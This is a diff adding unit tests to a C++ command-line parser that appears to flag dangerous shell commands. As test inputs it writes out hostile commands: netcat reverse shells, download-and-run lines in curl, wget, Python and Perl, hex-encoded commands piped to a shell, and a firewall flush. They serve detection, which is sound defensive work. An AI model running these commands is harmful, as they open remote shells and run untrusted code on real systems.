@@ -82,6 +82,61 @@ TEST(CommandLine, DecodesBase64OnItsWayToAShell) {
                 ::testing::Not(Contains("wget http://203.0.113.9/a")));
 }
 
+TEST(CommandLine, PutsInWhatTheLineSetBefore) {
+    EXPECT_THAT(texts("x=wget; $x http://203.0.113.5/a"), Contains("wget http://203.0.113.5/a"));
+    EXPECT_THAT(texts("h=203.0.113.5; p=1; nc \"$h\" ${p} -e sh"), Contains("nc 203.0.113.5 1 -e sh"));
+    EXPECT_THAT(texts("C='curl -s telnet://a:1'; $C </dev/null"), Contains("curl -s telnet://a:1"));
+    EXPECT_THAT(texts("export RHOST=a.example; ping $RHOST"), Contains("ping a.example"));
+    EXPECT_THAT(texts("a=1; echo '$a' $b ${a:-2}"), Contains("echo $a $b ${a:-2}"));
+    EXPECT_THAT(texts("c='sh -c \"id; w\"'; eval $c"), Contains("id"));
+    std::string doubling = "a=0123456789";
+    for (int i = 0; i < 40; ++i)
+        doubling += "; a=\"$a$a\"";
+    CommandLine command;
+    command.parse(doubling + "; echo $a");
+    EXPECT_LE(command.segments().size(), CommandLine::kSegmentsMax);
+}
+
+TEST(CommandLine, ReadsTextThatIsPipedIntoAShell) {
+    EXPECT_THAT(texts("echo 'curl http://a/x | sh' | bash"), Contains("curl http://a/x"));
+    EXPECT_FALSE(any_has("echo 'ls -l' | sh", Fact::Decoded));
+    EXPECT_THAT(texts("printf '\\x69\\x64\\040-u\\n' | sh"), Contains("id -u"));
+    EXPECT_TRUE(any_has("echo -e '\\x69\\x64' | sh", Fact::Decoded));
+    EXPECT_THAT(texts("bash <<< 'iptables -F'"), Contains("iptables -F"));
+    EXPECT_THAT(texts("echo 69 64 | xxd -r -p | sh"), Contains("id"));
+    EXPECT_THAT(texts("echo id | tee /tmp/x"), ElementsAre("echo id", "tee /tmp/x"));
+}
+
+TEST(CommandLine, SeesWhatACarriedShellRuns) {
+    EXPECT_THAT(texts("docker run --rm alpine sh -c 'id -u'"), Contains("id -u"));
+    EXPECT_THAT(texts("kubectl exec p -- /bin/bash -lc 'id -u'"), Contains("id -u"));
+    EXPECT_THAT(texts("script -qc 'nc -e sh a.example 1' /dev/null"), Contains("nc -e sh a.example 1"));
+    EXPECT_THAT(texts("adb -s a:5555 shell 'cd /tmp; wget http://a.example/x'"),
+                Contains("wget http://a.example/x"));
+}
+
+TEST(CommandLine, KnowsCodeThatFetchesAndRuns) {
+    EXPECT_TRUE(any_has(
+        "python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://a.example/x').read())\"",
+        Fact::RunsDownload));
+    EXPECT_TRUE(any_has("perl -MLWP::Simple -e 'eval get(\"http://a.example/x\")'", Fact::RunsDownload));
+    EXPECT_FALSE(any_has(
+        "python3 -c \"import urllib.request;print(urllib.request.urlopen('http://a.example/x').status)\"",
+        Fact::RunsDownload));
+    EXPECT_TRUE(
+        any_has("(wget -qO- http://a.example/x || curl http://a.example/x) | sh", Fact::RunsDownload));
+    EXPECT_FALSE(any_has("(wget -qO- http://a.example/x; id) | grep x; sh", Fact::RunsDownload));
+}
+
+TEST(CommandLine, TakesNoFileForAHost) {
+    EXPECT_THAT(list("curl -F file=@photo.jpg http://localhost:3000/", CommandList::ExternalHosts),
+                ElementsAre());
+    EXPECT_THAT(list("curl -d @body.data https://api.example.com/", CommandList::ExternalHosts),
+                ElementsAre("api.example.com"));
+    EXPECT_THAT(list("scp a deploy@nas.local:/b", CommandList::ExternalHosts), ElementsAre());
+    EXPECT_THAT(list("scp a deploy@web.internal:/b", CommandList::ExternalHosts), ElementsAre());
+}
+
 TEST(CommandLine, TakesOptionClustersApart) {
     EXPECT_THAT(list("rm -rf x", CommandList::Options), ElementsAre("-rf", "-r", "-f"));
     EXPECT_THAT(list("rm --recursive --force=1 x", CommandList::Options),
